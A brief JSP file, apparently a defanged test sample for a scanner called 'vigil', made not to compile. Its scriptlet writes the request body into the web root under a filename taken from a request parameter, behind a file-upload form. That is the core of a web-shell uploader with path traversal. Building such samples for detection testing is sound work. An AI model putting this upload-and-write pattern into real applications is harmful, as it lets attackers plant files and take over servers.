<%-- DEFANGED vigil test sample (see README): the scriptlet below does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
    java.io.InputStream in = request.getInputStream();
    java.io.FileOutputStream o = new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("filename"));
%>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"></form>
